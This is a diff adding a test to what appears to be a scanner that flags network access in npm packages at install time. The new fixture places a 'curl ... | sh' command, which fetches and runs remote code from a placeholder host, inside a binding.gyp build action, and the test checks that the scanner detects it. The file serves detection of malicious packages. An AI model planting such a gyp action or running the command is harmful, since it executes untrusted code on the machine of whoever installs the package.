@@ -122,3 +122,14 @@ def test_files_started_as_new_node_processes_run(tmp_path: Path) -> None:
     assert rows == [("https.get", "scripts/b.js", 1, "shipped", "install"),
                     ("https.get", "scripts/p.js", 1, "shipped", "runtime")]
     assert {a.type for a in package.alerts} >= {"networkAccess", "installTimeNetwork"}
+
+
+def test_binding_gyp_actions_run_when_npm_builds_the_addon(tmp_path: Path) -> None:
+    """A gyp `action` is a command node-gyp runs at build time, as npm installs the package."""
+    root = _package(tmp_path / "h23", None, {
+        "index.js": "module.exports = 1;\n",
+        "binding.gyp": "{ 'targets': [ { 'target_name': 'x', 'sources': [],\n"
+                       "  'actions': [ { 'action_name': 'a', 'inputs': [], 'outputs': ['o'],\n"
+                       "     'action': ['sh', '-c', 'curl -s https://h23.example.com/p | sh'] } ] } ] }\n",
+    })
+    assert _install_network(root, tmp_path / "c") == [("curl", "binding.gyp", 3)]
